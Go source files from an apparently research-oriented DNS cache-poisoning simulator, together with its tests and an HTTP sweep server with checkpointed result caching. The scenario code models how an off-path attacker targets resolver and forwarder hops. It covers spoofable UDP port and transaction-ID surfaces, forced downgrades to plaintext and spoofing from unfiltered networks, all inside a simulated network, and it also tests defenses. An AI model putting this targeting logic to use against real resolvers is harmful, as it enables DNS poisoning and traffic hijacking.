	}
	return s.Poisoned(name, typ)
}

// AttackerOwned reports whether any record of the set points into the
// attacker's address space or zone.
func AttackerOwned(rrs []*dnswire.RR) bool {
	for _, rr := range rrs {
		switch d := rr.Data.(type) {
		case *dnswire.AData:
			if AttackerPrefix.Contains(d.Addr) {
				return true
			}
		case *dnswire.MXData:
			if dnswire.InBailiwick(d.Host, "atk.example.") {
				return true
			}
		case *dnswire.NSData:
			if dnswire.InBailiwick(d.Host, "atk.example.") {
				return true
			}
		}
	}
	return false
}

// Hop describes one hop of the victim's resolution chain for attack
// targeting: the querying host, its address, and where its genuine
// answers come from (the spoof source an off-path attacker must
// impersonate to inject at this hop).
type Hop struct {
	Host     *netsim.Host
	Addr     netip.Addr
	Upstream netip.Addr
	// Forwarder is the hop's forwarder node; nil for the final
	// recursive-resolver hop.
	Forwarder *resolver.Forwarder
	// Transport is the hop's configured upstream transport;
	// Opportunistic marks it downgradeable.
	Transport     resolver.Transport
	Opportunistic bool
	// UDPUpstream reports whether the hop's upstream queries currently
	// travel plaintext UDP (configured UDP, or downgraded to it) —
	// i.e. whether the hop exposes a spoofable port/TXID surface.
	UDPUpstream func() bool
	// ForceDowngrade strips an opportunistic hop back to plaintext
	// UDP, reporting whether anything changed.
	ForceDowngrade func() bool
}

// Hops returns the victim's resolution chain in client order: every
// forwarder hop, then the recursive resolver (whose upstream is the
// target domain's nameserver).
func (s *S) Hops() []Hop {
	hops := make([]Hop, 0, len(s.Forwarders)+1)
	for _, f := range s.Forwarders {
		f := f
		hops = append(hops, Hop{
			Host: f.Host, Addr: f.Host.Addr, Upstream: f.Upstream, Forwarder: f,
			Transport: f.Transport, Opportunistic: f.Opportunistic,
			UDPUpstream:    func() bool { return f.EffectiveTransport() == resolver.TransportUDP },
			ForceDowngrade: f.ForceDowngrade,
		})
	}
	r := s.Resolver
	return append(hops, Hop{
		Host: s.ResolverHost, Addr: ResolverIP, Upstream: NSIP,
		Transport: r.Prof.Transport, Opportunistic: r.Prof.Opportunistic,
		UDPUpstream:    func() bool { return r.EffectiveTransport() == resolver.TransportUDP },
		ForceDowngrade: r.ForceDowngrade,
	})
}
