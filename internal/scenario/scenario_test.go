package scenario_test

import (
	"errors"
	"testing"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func TestScenarioWiring(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	if s.Net.HostByAddr(scenario.ResolverIP) != s.ResolverHost {
		t.Fatal("resolver host not registered")
	}
	if s.Net.HostByAddr(scenario.AttackerIP).ASN != scenario.AttackerAS {
		t.Fatal("attacker AS wrong")
	}
	// The attacker AS must be able to spoof; the victim AS must not.
	if s.Net.AS(scenario.AttackerAS).EgressFiltering {
		t.Fatal("attacker AS filters egress")
	}
	if !s.Net.AS(scenario.VictimAS).EgressFiltering {
		t.Fatal("victim AS does not filter egress")
	}
}

func TestVictimZoneServesAllTable1RecordTypes(t *testing.T) {
	z := scenario.BuildVictimZone(false)
	for _, q := range []struct {
		name string
		typ  dnswire.Type
	}{
		{"vict.im.", dnswire.TypeA},
		{"vict.im.", dnswire.TypeMX},
		{"vict.im.", dnswire.TypeTXT},
		{"vict.im.", dnswire.TypeNAPTR},
		{"_xmpp-server._tcp.vict.im.", dnswire.TypeSRV},
		{"_radsec._tcp.vict.im.", dnswire.TypeSRV},
		{"ntp.vict.im.", dnswire.TypeA},
		{"vpn.vict.im.", dnswire.TypeA},
		{"ocsp.vict.im.", dnswire.TypeA},
		{"rpki.vict.im.", dnswire.TypeA},
		{"seed.vict.im.", dnswire.TypeA},
		{"_dmarc.vict.im.", dnswire.TypeTXT},
		{"sel1._domainkey.vict.im.", dnswire.TypeTXT},
	} {
		if rrs, ok := z.Lookup(q.name, q.typ); !ok || len(rrs) == 0 {
			t.Errorf("zone missing %s %v", q.name, q.typ)
		}
	}
}

func TestPoisonedDetectsAttackerRecords(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 2})
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("fresh scenario reports poisoned")
	}
	s.Resolver.Cache.Put("www.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.VictimWWW)})
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("genuine record reported poisoned")
	}
	s.Resolver.Cache.Put("mail-route.vict.im.", dnswire.TypeMX,
		[]*dnswire.RR{dnswire.NewMX("mail-route.vict.im.", 300, 5, "mail.atk.example.")})
	if !s.Poisoned("mail-route.vict.im.", dnswire.TypeMX) {
		t.Fatal("attacker MX not detected")
	}
}

func TestResolutionSurvivesPacketLoss(t *testing.T) {
	// Failure injection: with 20% loss the resolver's retransmissions
	// still complete most lookups; with 100% loss everything times out.
	s := scenario.New(scenario.Config{Seed: 3})
	s.Net.SetLossRate(0.20)
	ok, fail := 0, 0
	for i := 0; i < 30; i++ {
		name := dnswire.CanonicalName("www.vict.im.")
		done := false
		s.Resolver.Lookup(name, dnswire.TypeA, func(rrs []*dnswire.RR, err error) {
			done = true
			if err == nil && len(rrs) > 0 {
				ok++
			} else {
				fail++
			}
		})
		s.Run()
		if !done {
			t.Fatal("lookup hung")
		}
		s.Resolver.Cache.Flush()
		s.Clock.RunFor(time.Second)
	}
	if ok < 20 {
		t.Fatalf("only %d/30 lookups survived 20%% loss (retries broken?)", ok)
	}

	s2 := scenario.New(scenario.Config{Seed: 4})
	s2.Net.SetLossRate(1.0)
	var got error
	s2.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, err error) { got = err })
	s2.Run()
	if !errors.Is(got, resolver.ErrTimeout) {
		t.Fatalf("total loss returned %v, want timeout", got)
	}
}

func TestScenarioDeterminism(t *testing.T) {
	run := func() (uint64, uint64) {
		s := scenario.New(scenario.Config{Seed: 99})
		for i := 0; i < 5; i++ {
			s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
			s.Run()
		}
		return s.Net.Delivered, s.Resolver.UpstreamQueries
	}
	d1, q1 := run()
	d2, q2 := run()
	if d1 != d2 || q1 != q2 {
		t.Fatalf("same seed diverged: %d/%d vs %d/%d", d1, q1, d2, q2)
	}
}

// TestDefenseKnobOverrides pins the campaign defense knobs: Force0x20
// and ValidateDNSSEC override the selected profile without editing it.
func TestDefenseKnobOverrides(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 90, Profile: resolver.ProfileBIND,
		Force0x20: true, ValidateDNSSEC: true, SignVictimZone: true})
	if !s.Resolver.Prof.Use0x20 {
		t.Fatal("Force0x20 did not reach the resolver profile")
	}
	if !s.Resolver.Prof.ValidateDNSSEC {
		t.Fatal("ValidateDNSSEC did not reach the resolver profile")
	}
	if resolver.ProfileBIND.Use0x20 || resolver.ProfileBIND.ValidateDNSSEC {
		t.Fatal("knobs mutated the shared profile value")
	}
	// A validating resolver must still resolve the genuine signed zone.
	var rrs []*dnswire.RR
	var err error
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(r []*dnswire.RR, e error) { rrs, err = r, e })
	s.Run()
	if err != nil || len(rrs) == 0 {
		t.Fatalf("signed-zone lookup under both defenses: rrs=%d err=%v", len(rrs), err)
	}
}
