package scenario_test

import (
	"errors"
	"testing"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func TestScenarioWiring(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	if s.Net.HostByAddr(scenario.ResolverIP) != s.ResolverHost {
		t.Fatal("resolver host not registered")
	}
	if s.Net.HostByAddr(scenario.AttackerIP).ASN != scenario.AttackerAS {
		t.Fatal("attacker AS wrong")
	}
	// The attacker AS must be able to spoof; the victim AS must not.
	if s.Net.AS(scenario.AttackerAS).EgressFiltering {
		t.Fatal("attacker AS filters egress")
	}
	if !s.Net.AS(scenario.VictimAS).EgressFiltering {
		t.Fatal("victim AS does not filter egress")
	}
}

func TestVictimZoneServesAllTable1RecordTypes(t *testing.T) {
	z := scenario.BuildVictimZone(false)
	for _, q := range []struct {
		name string
		typ  dnswire.Type
	}{
		{"vict.im.", dnswire.TypeA},
		{"vict.im.", dnswire.TypeMX},
		{"vict.im.", dnswire.TypeTXT},
		{"vict.im.", dnswire.TypeNAPTR},
		{"_xmpp-server._tcp.vict.im.", dnswire.TypeSRV},
		{"_radsec._tcp.vict.im.", dnswire.TypeSRV},
		{"ntp.vict.im.", dnswire.TypeA},
		{"vpn.vict.im.", dnswire.TypeA},
		{"ocsp.vict.im.", dnswire.TypeA},
		{"rpki.vict.im.", dnswire.TypeA},
		{"seed.vict.im.", dnswire.TypeA},
		{"_dmarc.vict.im.", dnswire.TypeTXT},
		{"sel1._domainkey.vict.im.", dnswire.TypeTXT},
	} {
		if rrs, ok := z.Lookup(q.name, q.typ); !ok || len(rrs) == 0 {
			t.Errorf("zone missing %s %v", q.name, q.typ)
		}
	}
}

func TestPoisonedDetectsAttackerRecords(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 2})
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("fresh scenario reports poisoned")
	}
	s.Resolver.Cache.Put("www.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.VictimWWW)})
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("genuine record reported poisoned")
	}
	s.Resolver.Cache.Put("mail-route.vict.im.", dnswire.TypeMX,
		[]*dnswire.RR{dnswire.NewMX("mail-route.vict.im.", 300, 5, "mail.atk.example.")})
	if !s.Poisoned("mail-route.vict.im.", dnswire.TypeMX) {
		t.Fatal("attacker MX not detected")
	}
}

func TestResolutionSurvivesPacketLoss(t *testing.T) {
	// Failure injection: with 20% loss the resolver's retransmissions
	// still complete most lookups; with 100% loss everything times out.
	s := scenario.New(scenario.Config{Seed: 3})
	s.Net.SetLossRate(0.20)
	ok, fail := 0, 0
	for i := 0; i < 30; i++ {
		name := dnswire.CanonicalName("www.vict.im.")
		done := false
		s.Resolver.Lookup(name, dnswire.TypeA, func(rrs []*dnswire.RR, err error) {
			done = true
			if err == nil && len(rrs) > 0 {
				ok++
			} else {
				fail++
			}
		})
		s.Run()
		if !done {
			t.Fatal("lookup hung")
		}
		s.Resolver.Cache.Flush()
		s.Clock.RunFor(time.Second)
	}
	if ok < 20 {
		t.Fatalf("only %d/30 lookups survived 20%% loss (retries broken?)", ok)
	}

	s2 := scenario.New(scenario.Config{Seed: 4})
	s2.Net.SetLossRate(1.0)
	var got error
	s2.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, err error) { got = err })
	s2.Run()
	if !errors.Is(got, resolver.ErrTimeout) {
		t.Fatalf("total loss returned %v, want timeout", got)
	}
}

func TestScenarioDeterminism(t *testing.T) {
	run := func() (uint64, uint64) {
		s := scenario.New(scenario.Config{Seed: 99})
		for i := 0; i < 5; i++ {
			s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
			s.Run()
		}
		return s.Net.Delivered, s.Resolver.UpstreamQueries
	}
	d1, q1 := run()
	d2, q2 := run()
	if d1 != d2 || q1 != q2 {
		t.Fatalf("same seed diverged: %d/%d vs %d/%d", d1, q1, d2, q2)
	}
}

// TestForwarderChainConstruction pins the chain wiring: hop 0 is the
// entry the client queries, hop i relays to hop i+1, the last hop
// relays to the resolver, and each hop gets its spec's port span and
// cache configuration.
func TestForwarderChainConstruction(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 60, ForwarderChain: []scenario.ForwarderSpec{
		{PortSpan: 512, CheckBailiwick: true},
		{NoCache: true},
		{},
	}})
	if len(s.Forwarders) != 3 {
		t.Fatalf("%d forwarders, want 3", len(s.Forwarders))
	}
	if s.DNSAddr() != scenario.ForwarderIP(0) {
		t.Fatalf("DNSAddr %v, want entry hop %v", s.DNSAddr(), scenario.ForwarderIP(0))
	}
	if s.Forwarders[0].Upstream != scenario.ForwarderIP(1) ||
		s.Forwarders[1].Upstream != scenario.ForwarderIP(2) ||
		s.Forwarders[2].Upstream != scenario.ResolverIP {
		t.Fatal("chain upstream wiring wrong")
	}
	if got := s.Forwarders[0].Host.Cfg.PortMax - s.Forwarders[0].Host.Cfg.PortMin + 1; got != 512 {
		t.Fatalf("entry hop port span %d, want 512", got)
	}
	if got := s.Forwarders[2].Host.Cfg.PortMax - s.Forwarders[2].Host.Cfg.PortMin + 1; got != scenario.DefaultForwarderPortSpan {
		t.Fatalf("default hop port span %d, want %d", got, scenario.DefaultForwarderPortSpan)
	}
	if !s.Forwarders[0].CheckBailiwick || s.Forwarders[0].Cache == nil {
		t.Fatal("entry hop spec not applied")
	}
	if s.Forwarders[1].Cache != nil {
		t.Fatal("NoCache hop has a cache")
	}
	// The chain resolves end to end, and every caching hop retains the
	// answer.
	var rrs []*dnswire.RR
	var err error
	resolver.StubLookup(s.ClientHost, s.DNSAddr(), "www.vict.im.", dnswire.TypeA, 20*time.Second,
		func(r []*dnswire.RR, e error) { rrs, err = r, e })
	s.Run()
	if err != nil || len(rrs) == 0 {
		t.Fatalf("chain resolution: rrs=%d err=%v", len(rrs), err)
	}
	if !s.Forwarders[0].Cache.Contains("www.vict.im.", dnswire.TypeA) ||
		!s.Forwarders[2].Cache.Contains("www.vict.im.", dnswire.TypeA) {
		t.Fatal("caching hops did not retain the relayed answer")
	}
	hops := s.Hops()
	if len(hops) != 4 || hops[3].Addr != scenario.ResolverIP || hops[3].Upstream != scenario.NSIP {
		t.Fatalf("Hops() = %+v", hops)
	}
}

// TestChainPoisonedWalksClientOrder: the first hop holding a cached
// answer decides what the client sees — a genuine record cached near
// the client masks a poisoned resolver, and a poisoned entry hop is a
// poisoned chain no matter what the resolver holds.
func TestChainPoisonedWalksClientOrder(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 61, ForwarderChain: []scenario.ForwarderSpec{{}, {}}})
	if s.ChainPoisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("fresh chain reports poisoned")
	}
	// Poisoned resolver behind an empty chain: the client's query walks
	// through to it.
	s.Resolver.Cache.Put("www.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)})
	if !s.ChainPoisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("poisoned resolver not reported through empty chain")
	}
	// A genuine record cached at the entry hop masks it.
	s.Forwarders[0].Cache.Put("www.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.VictimWWW)})
	if s.ChainPoisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("genuine entry-hop record did not mask the poisoned resolver")
	}
	// And a poisoned entry hop decides regardless of everything behind.
	s.Forwarders[0].Cache.Put("www.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)})
	if !s.ChainPoisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("poisoned entry hop not reported")
	}
}

// TestCarrierPlacement pins the attacker-placement knob: the carrier
// variant moves the attacker's hosts into CarrierAS, originates the
// attacker prefix from there, keeps spoofing possible, and reaches the
// victim over backbone latency.
func TestCarrierPlacement(t *testing.T) {
	stub := scenario.New(scenario.Config{Seed: 62})
	carrier := scenario.New(scenario.Config{Seed: 62, Placement: scenario.PlacementCarrier})

	if stub.AttackerASN != scenario.AttackerAS || stub.Attacker.ASN != scenario.AttackerAS {
		t.Fatal("stub placement moved the attacker")
	}
	if carrier.AttackerASN != scenario.CarrierAS || carrier.Attacker.ASN != scenario.CarrierAS {
		t.Fatal("carrier placement did not move the attacker into CarrierAS")
	}
	if origin, ok := carrier.RIB.Resolve(scenario.VictimAS, scenario.AttackerIP); !ok || origin != scenario.CarrierAS {
		t.Fatalf("attacker prefix resolves to AS %d (ok=%v), want CarrierAS", origin, ok)
	}
	if carrier.Net.AS(scenario.CarrierAS).EgressFiltering {
		t.Fatal("carrier AS must not enforce SAV")
	}

	// The carrier's backbone access shaves the attacker->victim one-way
	// latency below the stub's.
	arrival := func(s *scenario.S) time.Duration {
		var at time.Duration
		s.ResolverHost.BindUDP(5353, func(netsim.Datagram) { at = s.Clock.Now() })
		start := s.Clock.Now()
		s.Attacker.SendUDP(40000, scenario.ResolverIP, 5353, []byte("x"))
		s.Run()
		return at - start
	}
	stubLat, carrierLat := arrival(stub), arrival(carrier)
	if carrierLat >= stubLat {
		t.Fatalf("carrier latency %v not below stub latency %v", carrierLat, stubLat)
	}
}

// TestDefensePipelineOverridesProfile pins the defense pipeline: a
// stacked Defense0x20 + DefenseDNSSEC override the selected profile
// (and sign the zone) without editing the shared profile value.
func TestDefensePipelineOverridesProfile(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 90, Profile: resolver.ProfileBIND,
		Defenses: []scenario.DefenseSpec{scenario.Defense0x20(), scenario.DefenseDNSSEC()}})
	if !s.Resolver.Prof.Use0x20 {
		t.Fatal("Defense0x20 did not reach the resolver profile")
	}
	if !s.Resolver.Prof.ValidateDNSSEC {
		t.Fatal("DefenseDNSSEC did not reach the resolver profile")
	}
	if !s.VictimZone.Signed {
		t.Fatal("DefenseDNSSEC did not sign the victim zone")
	}
	if resolver.ProfileBIND.Use0x20 || resolver.ProfileBIND.ValidateDNSSEC {
		t.Fatal("defense specs mutated the shared profile value")
	}
	// A validating resolver must still resolve the genuine signed zone.
	var rrs []*dnswire.RR
	var err error
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(r []*dnswire.RR, e error) { rrs, err = r, e })
	s.Run()
	if err != nil || len(rrs) == 0 {
		t.Fatalf("signed-zone lookup under both defenses: rrs=%d err=%v", len(rrs), err)
	}
}

// TestDefensePipelineOrderAndIdempotence pins the pipeline rules the
// lattice relies on: applying a spec twice equals applying it once,
// specs run in slice order (the later writer wins on shared state),
// and any stacking order of the canonical specs builds the same
// scenario configuration.
func TestDefensePipelineOrderAndIdempotence(t *testing.T) {
	observe := func(defs ...scenario.DefenseSpec) (bool, bool, bool, bool) {
		s := scenario.New(scenario.Config{Seed: 91, Defenses: defs})
		return s.Resolver.Prof.Use0x20, s.Resolver.Prof.ValidateDNSSEC,
			s.VictimZone.Signed, s.NS.Cfg.RandomizeOrder
	}
	once := [4]bool{}
	once[0], once[1], once[2], once[3] = observe(scenario.Defense0x20(), scenario.DefenseDNSSEC(), scenario.DefenseShuffle())
	twice := [4]bool{}
	twice[0], twice[1], twice[2], twice[3] = observe(scenario.Defense0x20(), scenario.Defense0x20(),
		scenario.DefenseDNSSEC(), scenario.DefenseShuffle(), scenario.DefenseShuffle())
	if once != twice {
		t.Fatalf("canonical specs not idempotent: once %v twice %v", once, twice)
	}
	reversed := [4]bool{}
	reversed[0], reversed[1], reversed[2], reversed[3] = observe(scenario.DefenseShuffle(), scenario.DefenseDNSSEC(), scenario.Defense0x20())
	if once != reversed {
		t.Fatalf("canonical specs do not commute: forward %v reversed %v", once, reversed)
	}
	// Slice order is the application order: a later conflicting spec
	// overrides an earlier one.
	on := scenario.DefenseSpec{Key: "rrl-on", Apply: func(cfg *scenario.Config) { cfg.ServerCfg.RateLimit = true }}
	s := scenario.New(scenario.Config{Seed: 92,
		Defenses: []scenario.DefenseSpec{on, scenario.DefenseNoRRL()}})
	if s.NS.Cfg.RateLimit {
		t.Fatal("later spec did not win over earlier conflicting spec")
	}
	s = scenario.New(scenario.Config{Seed: 92,
		Defenses: []scenario.DefenseSpec{scenario.DefenseNoRRL(), on}})
	if !s.NS.Cfg.RateLimit {
		t.Fatal("pipeline did not apply specs in slice order")
	}
}
