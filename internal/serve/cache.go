package serve

import (
	"sync"

	"crosslayer/internal/campaign"
)

// cellCache is the server's content-addressed cell store: a mutex map
// from campaign.CellKey identity strings to their measured results.
// Because cell seeds derive from the identity key (not the cell's
// position in a sweep), a stored result is exactly what recomputation
// would produce — for any filter, any parallelism — so overlapping
// filtered sweeps submitted to one server never recompute a shared
// cell, and cache-served reports are byte-identical to cold ones.
//
// It satisfies campaign.CellCache; Lookup and Store are called
// concurrently from engine worker goroutines.
type cellCache struct {
	mu     sync.Mutex
	cells  map[string]campaign.CellResult
	hits   uint64
	misses uint64
	stores uint64
	// dirty is set by Store and cleared by snapshot(flush=true): the
	// checkpoint writer skips the disk write when nothing changed.
	dirty bool
}

func newCellCache() *cellCache {
	return &cellCache{cells: make(map[string]campaign.CellResult)}
}

func (c *cellCache) Lookup(key string) (campaign.CellResult, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	r, ok := c.cells[key]
	if ok {
		c.hits++
	} else {
		c.misses++
	}
	return r, ok
}

func (c *cellCache) Store(key string, r campaign.CellResult) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.cells[key] = r
	c.stores++
	c.dirty = true
}

// CacheStats is the cache-counter snapshot the /cache endpoint and the
// terminal report event expose.
type CacheStats struct {
	Cells  int    `json:"cells"`
	Hits   uint64 `json:"hits"`
	Misses uint64 `json:"misses"`
	Stores uint64 `json:"stores"`
}

func (c *cellCache) stats() CacheStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return CacheStats{Cells: len(c.cells), Hits: c.hits, Misses: c.misses, Stores: c.stores}
}

// snapshot copies the cell map for checkpointing. With flush set it
// also clears the dirty flag — the caller is committing the copy to
// disk. nil (with clean=true) means nothing changed since the last
// flush and the write can be skipped.
func (c *cellCache) snapshot(flush bool) (cells map[string]campaign.CellResult, clean bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.dirty {
		return nil, true
	}
	cells = make(map[string]campaign.CellResult, len(c.cells))
	for k, v := range c.cells {
		cells[k] = v
	}
	if flush {
		c.dirty = false
	}
	return cells, false
}

// load replaces the cache contents with a checkpoint's cells. Loaded
// state is not dirty: a restart that computes nothing new rewrites
// nothing.
func (c *cellCache) load(cells map[string]campaign.CellResult) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.cells = make(map[string]campaign.CellResult, len(cells))
	for k, v := range cells {
		c.cells[k] = v
	}
	c.dirty = false
}
