package serve

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"

	"crosslayer/internal/campaign"
)

// checkpointVersion guards the on-disk schema: a version we don't
// recognise fails the load instead of silently serving wrong cells.
// Version 2 added CellResult.Deployment (the deployment-dataset axis);
// version-1 checkpoints predate the axis and are refused rather than
// resurfaced as canonical cells with a guessed field.
const checkpointVersion = 2

// checkpointFile is the on-disk snapshot of the server's cell cache:
// every completed campaign cell, keyed by its full content address
// (campaign.CellKey — "seed/trials/method/victim/profile/defenseset/
// depth/placement"). The results round-trip losslessly — stats.Counter
// is integer pairs and stats.CDF marshals its exact float64 samples —
// so a resumed server's cache-served reports stay byte-identical to
// the runs that populated it.
type checkpointFile struct {
	Version int                            `json:"version"`
	Cells   map[string]campaign.CellResult `json:"cells"`
}

// loadCheckpoint restores the cache from path. A missing file is a
// fresh start, not an error; a present-but-unreadable one is fatal —
// better to refuse than to recompute over a checkpoint the operator
// thought was live.
func (s *Server) loadCheckpoint() error {
	data, err := os.ReadFile(s.cfg.CheckpointPath)
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	if err != nil {
		return fmt.Errorf("serve: load checkpoint: %w", err)
	}
	var cp checkpointFile
	if err := json.Unmarshal(data, &cp); err != nil {
		return fmt.Errorf("serve: load checkpoint %s: %w", s.cfg.CheckpointPath, err)
	}
	if cp.Version != checkpointVersion {
		return fmt.Errorf("serve: checkpoint %s has version %d, want %d",
			s.cfg.CheckpointPath, cp.Version, checkpointVersion)
	}
	s.cache.load(cp.Cells)
	return nil
}

// saveCheckpoint snapshots the cache to path atomically (write to a
// temp file in the same directory, then rename), so a crash mid-write
// never truncates the previous good checkpoint. A clean cache skips
// the write entirely.
func (s *Server) saveCheckpoint() error {
	if s.cfg.CheckpointPath == "" {
		return nil
	}
	cells, clean := s.cache.snapshot(true)
	if clean {
		return nil
	}
	data, err := json.Marshal(checkpointFile{Version: checkpointVersion, Cells: cells})
	if err != nil {
		return fmt.Errorf("serve: save checkpoint: %w", err)
	}
	dir := filepath.Dir(s.cfg.CheckpointPath)
	tmp, err := os.CreateTemp(dir, ".checkpoint-*")
	if err != nil {
		return fmt.Errorf("serve: save checkpoint: %w", err)
	}
	_, werr := tmp.Write(data)
	cerr := tmp.Close()
	if werr == nil {
		werr = cerr
	}
	if werr == nil {
		werr = os.Rename(tmp.Name(), s.cfg.CheckpointPath)
	}
	if werr != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("serve: save checkpoint: %w", werr)
	}
	return nil
}
