// Package serve turns the experiment harness into a resident service:
// one long-running process that accepts sweep requests over HTTP,
// executes them through the registry on a sequential job queue, and
// remembers every campaign cell it has ever computed in a
// content-addressed cache keyed by the cell's identity-derived seed
// string. Overlapping filtered sweeps — the way the matrix is actually
// explored — recompute only the cells no earlier request covered, and
// cache-served results are byte-identical to cold computation (the
// identity-seeding determinism contract makes memoization sound).
//
// The wire protocol is newline-delimited JSON on one chunked response:
// progress events as shards complete, then exactly one terminal event
// — "report" carrying the rendered report.JSON document plus the
// request's cache-hit/miss counts, or "error". The cache survives
// restarts through JSON checkpoints: loaded at startup, written
// periodically while dirty, and flushed one final time on shutdown —
// including shutdown by signal mid-sweep, because the engine stores
// completed cells even when a run is cancelled.
package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"strconv"
	"strings"
	"time"

	"crosslayer/internal/campaign"
	"crosslayer/internal/report"
)

// Config configures a Server. The zero value listens on an ephemeral
// localhost port with no checkpointing.
type Config struct {
	// Addr is the TCP listen address; "" means "127.0.0.1:0" (an
	// ephemeral port — read it back from Addr after Run starts).
	Addr string
	// CheckpointPath, when non-empty, persists the cell cache: loaded
	// at startup, written while dirty every CheckpointEvery, and
	// flushed on shutdown.
	CheckpointPath string
	// CheckpointEvery is the periodic checkpoint interval; 0 means
	// DefaultCheckpointEvery.
	CheckpointEvery time.Duration
	// MaxArenaBytes bounds the wire-buffer capacity each pooled worker
	// arena retains between jobs; 0 means campaign.DefaultMaxArenaBytes.
	MaxArenaBytes int
	// Log, when non-nil, receives one line per lifecycle event (listen
	// address, checkpoint loads/saves, job starts).
	Log io.Writer
}

// DefaultCheckpointEvery is the periodic checkpoint interval used when
// Config.CheckpointEvery is zero.
const DefaultCheckpointEvery = 30 * time.Second

// Server is the resident sweep service. Create with New, run with Run;
// requests stream through the HTTP handler while a single runner
// goroutine executes jobs in arrival order (the engine already
// parallelizes within a job, so queueing jobs keeps the machine
// saturated without oversubscribing it).
type Server struct {
	cfg    Config
	cache  *cellCache
	arenas *campaign.ArenaPool
	jobs   chan *job

	ready chan struct{}
	addr  string
}

// New builds a Server from cfg.
func New(cfg Config) *Server {
	return &Server{
		cfg:    cfg,
		cache:  newCellCache(),
		arenas: &campaign.ArenaPool{MaxArenaBytes: cfg.MaxArenaBytes},
		jobs:   make(chan *job),
		ready:  make(chan struct{}),
	}
}

// Ready is closed once Run has bound its listener; Addr is valid after.
func (s *Server) Ready() <-chan struct{} { return s.ready }

// Addr returns the bound listen address ("127.0.0.1:41372"). Valid
// only after Ready.
func (s *Server) Addr() string { return s.addr }

// job is one queued sweep: the experiment to run and the channel its
// handler drains. The runner owns events and closes it after the
// terminal event; the handler must drain it to completion even if the
// client has gone away, so the runner never blocks on a dead request.
type job struct {
	name   string
	spec   report.Spec
	events chan streamEvent
}

// streamEvent is one NDJSON line of a /run response.
type streamEvent struct {
	// Event is "progress", "report" or "error".
	Event string `json:"event"`
	// Progress fields (event == "progress").
	Dataset     string `json:"dataset,omitempty"`
	DoneShards  int    `json:"done_shards,omitempty"`
	TotalShards int    `json:"total_shards,omitempty"`
	Items       int    `json:"items,omitempty"`
	// CacheHits/CacheMisses count this job's cell-cache traffic
	// (event == "report"; campaign jobs only — other experiments have
	// no cells and report neither field).
	CacheHits   *uint64 `json:"cache_hits,omitempty"`
	CacheMisses *uint64 `json:"cache_misses,omitempty"`
	// Report is the report.JSON document (event == "report").
	Report json.RawMessage `json:"report,omitempty"`
	// Error is the failure, including cancellation (event == "error").
	Error string `json:"error,omitempty"`
}

// Run serves until ctx is cancelled, then shuts down in order: stop
// accepting requests, let the runner drain the job queue (the
// in-flight sweep aborts at its next cell boundary, queued jobs get
// terminal error events), and write the final checkpoint. This is the
// signal path: xlmeasure -serve wires its NotifyContext here, so an
// interrupted server persists every cell completed before the signal.
func (s *Server) Run(ctx context.Context) error {
	if s.cfg.CheckpointPath != "" {
		if err := s.loadCheckpoint(); err != nil {
			return err
		}
		s.logf("checkpoint: loaded %d cells from %s", s.cache.stats().Cells, s.cfg.CheckpointPath)
	}

	addr := s.cfg.Addr
	if addr == "" {
		addr = "127.0.0.1:0"
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("serve: %w", err)
	}
	s.addr = ln.Addr().String()
	close(s.ready)
	s.logf("listening on %s", s.addr)

	runnerDone := make(chan struct{})
	go func() {
		defer close(runnerDone)
		s.runner(ctx)
	}()

	if s.cfg.CheckpointPath != "" {
		every := s.cfg.CheckpointEvery
		if every <= 0 {
			every = DefaultCheckpointEvery
		}
		go s.checkpointLoop(ctx, every)
	}

	httpSrv := &http.Server{Handler: s.handler(ctx)}
	serveErr := make(chan error, 1)
	go func() { serveErr <- httpSrv.Serve(ln) }()

	select {
	case <-ctx.Done():
	case err := <-serveErr:
		// Listener failure, not shutdown: still flush what we have.
		s.saveCheckpoint()
		return fmt.Errorf("serve: %w", err)
	}

